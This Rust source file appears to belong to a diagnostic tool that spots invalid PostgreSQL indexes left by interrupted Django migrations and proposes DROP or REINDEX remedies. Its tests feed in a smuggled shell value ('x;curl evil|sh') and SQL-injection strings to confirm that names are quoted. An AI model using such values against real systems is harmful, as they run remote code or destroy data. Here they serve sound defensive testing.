//! An interrupted migration left an index that is not used.

use crate::{
    causes::{
        log::{
            failure::first_quoted,
            phrasing::{migration, progress, the_migration},
        },
        migrations::shared::{
            conflict::{self, Conflict},
            preflight,
            snippets::CHECK,
        },
        prelude::*,
        steps::names,
    },
    postgres::sql::{literal, relation},
};

pub(crate) static CAUSE: Cause = Cause {
    claims: Some(claims),
    check: Some(check),
    ..Cause::warning(Component::Migrations, include_str!("invalid_index_left.md"))
};

/// Begins the names of migrations that build an index CONCURRENTLY and fail when it is there, whether it is valid or not.
const BUILDS_INDEX: &[&str] =
    &["features.0036_", "features.0050_", "features.0062_", "task_processor.0004_", "task_processor.0005_"];

/// Where the name of an index is to be put.
const INDEX: &str = "INDEX_NAME";

/// An index that a migration is to build exists.
fn claims(evidence: &LogEvidence, occurrence: &Occurrence) -> Option<Explanation> {
    if conflict::of(occurrence) != Some(Conflict::Exists) {
        return None;
    }
    let object = conflict::object(occurrence);
    let name = first_quoted(object);
    let is_index =
        name.is_some_and(|name| name.contains("idx") || name.contains("index") || name.ends_with("_uniq"));
    let builds = migration(evidence, occurrence)
        .is_some_and(|migration| BUILDS_INDEX.iter().any(|start| migration.starts_with(start)));
    if !(occurrence.concurrent_index || builds && is_index) {
        return None;
    }
    let explanation = Explanation::new(
        Code::InvalidIndexLeft,
        format!(
            "{} cannot build its index: {object} already exists. It builds the index CONCURRENTLY, outside of a transaction, so an \
             earlier attempt that was interrupted leaves one that PostgreSQL does not use.{}",
            the_migration(evidence, occurrence),
            progress(evidence, occurrence)
        ),
        remedy_of_existing(name.unwrap_or(INDEX)),
    );
    Some(explanation.with(Severity::Critical))
}

/// What to do about an index that exists while its migration has still to run.
fn remedy_of_existing(index: &str) -> String {
    let name = relation(index, INDEX);
    format!(
        "Look: SELECT indisvalid FROM pg_index WHERE indexrelid = {}::regclass; when it is false: DROP INDEX CONCURRENTLY {name}; \
         and migrate again. When it is true, another migrator has built it: {CHECK}",
        literal(&name, INDEX)
    )
}

/// What to do about indexes that are not valid: each statement takes one.
fn remedy_of_invalid(indexes: &[String]) -> String {
    let each = |verb: &str| {
        let statements: Vec<String> = indexes
            .iter()
            .map(|index| format!("{verb} INDEX CONCURRENTLY {};", relation(index, INDEX)))
            .collect();
        statements.join(" ")
    };
    format!(
        "If its migration has still to run: {} if django_migrations has it as applied: {}",
        each("DROP"),
        each("REINDEX")
    )
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    let indexes = preflight::seen(context).map_or(&[][..], |preflight| &preflight.invalid_indexes);
    if indexes.is_empty() {
        return Vec::new();
    }
    vec![Draft {
        message: format!(
            "An interrupted migration has left an index that PostgreSQL keeps up to date and never uses ({}); a unique one guards \
             nothing.",
            names(indexes.iter().map(String::as_str)),
        ),
        evidence: indexes
            .iter()
            .map(|index| format!("database: index {index} is not valid (pg_index.indisvalid)"))
            .collect(),
        remedy: remedy_of_invalid(indexes),
        ..Code::InvalidIndexLeft.draft()
    }]
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use crate::{
        causes::{
            diagnose, diagnose_log,
            migrations::shared::testing::{good, with_preflight},
        },
        fixtures::{installation, minimal},
        model::{Code, Component},
        observe::Preflight,
    };

    /// As PostgreSQL shows a regclass: quoted where it must be, with the schema where it is not in the search path.
    #[rstest]
    #[case("notes_idx", "CONCURRENTLY notes_idx;")]
    #[case("other.notes_idx", "CONCURRENTLY other.notes_idx;")]
    #[case("\"Notes\"", "CONCURRENTLY \"Notes\";")]
    #[case("x;curl evil|sh", "CONCURRENTLY \"x;curl evil|sh\";")]
    #[case("\"x\"\"; DROP TABLE t; --\"", "CONCURRENTLY \"x\"\"; DROP TABLE t; --\";")]
    #[case("x\"; DROP TABLE t; --", "CONCURRENTLY \"x\"\"; DROP TABLE t; --\";")]
    #[case("\"a\u{1b}[2J\n\"", "CONCURRENTLY INDEX_NAME;")]
    fn names_of_a_database_are_quoted(#[case] index: &str, #[case] expected: &str) {
        let observation = with_preflight(Preflight { invalid_indexes: vec![index.to_owned()], ..good() });
        let found = diagnose(&installation(&minimal()), &observation);
        assert_eq!(found[0].code, Code::InvalidIndexLeft);
        assert_eq!(found[0].remedy.matches(expected).count(), 2, "{}", found[0].remedy);
    }

    #[rstest]
    #[case("notes_idx", "'notes_idx'::regclass; when it is false: DROP INDEX CONCURRENTLY notes_idx;")]
    #[case("it's_idx", "'\"it''s_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"it's_idx\";")]
    #[case(
        "x;curl evil|sh_idx",
        "'\"x;curl evil|sh_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"x;curl evil|sh_idx\";"
    )]
    fn names_of_a_log_are_quoted(#[case] index: &str, #[case] expected: &str) {
        let log = format!(
            "Operations to perform:\n  Applying a.0001_x... OK\n  Applying features.0036_x...\npsycopg2.errors.DuplicateTable: relation \"{index}\" already exists\n"
        );
        let found = diagnose_log(Component::Migrations, None, "log", log.as_bytes());
        let (_, first) = found.first().unwrap();
        assert_eq!(first.code, Code::InvalidIndexLeft);
        assert!(first.remedy.contains(expected), "{}", first.remedy);
    }
}
